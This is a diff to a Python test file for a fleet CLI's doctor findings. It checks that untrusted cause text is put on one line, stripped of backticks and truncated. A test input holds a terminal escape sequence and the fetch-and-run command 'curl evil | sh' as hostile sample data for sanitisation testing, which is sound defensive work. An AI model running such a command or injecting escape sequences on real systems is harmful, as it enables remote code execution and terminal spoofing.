@@ -4,18 +4,18 @@ import subprocess
 import sys
 
 from kai_fleet_cli.display.terminal import engine_line, say
-from kai_fleet_cli.doctor.causes import Fault, findings
+from kai_fleet_cli.doctor.faults import Fault, findings
 from kai_fleet_cli.engine.deletions import Deletions
 from kai_fleet_cli.engine.operation import Operation
 from kai_fleet_cli.engine.output import Output
 from kai_fleet_cli.engine.report import Report
 from kai_fleet_cli.recovery.resume import Signals
 from kai_fleet_cli.stack_file.reading import ROOT
-from kai_fleet_policies.finding import Level
+from kai_fleet_policies.finding import Command, Level
 
 PROGRAM = """
 import sys
-from kai_fleet_policies.finding import Level
+from kai_fleet_policies.finding import Command, Level
 from kai_fleet_cli.display.terminal import engine_line
 for number in range(50_000):
     engine_line(f"line {number}")
@@ -119,10 +119,11 @@ def test_a_warning_of_a_plugin_is_shown_once_in_all_runs_of_a_command(capsys):
 def test_a_finding_is_a_line_of_its_own():
     """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
     cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
-    fix = "look with: `kubectl -n {namespace} get {names}`"
+    fix = ("ask `evil`, or look with: ", Command("kubectl -n {namespace} get {names}"))
     fault = Fault(Level.MANDATORY, "ml", "pod", "b/a\nin b", cause, fix)
     (found,) = findings("pending", "host", [fault])
     assert found.subject == "pod b/a in b"
     assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
     assert len(found.cause) == 2000
-    assert found.fix == "look with: `kubectl -n b get a in b`"
+    assert found.fix == "ask 'evil', or look with: `kubectl -n b get a in b`"
+    assert found.commands == ("kubectl -n b get a in b",)
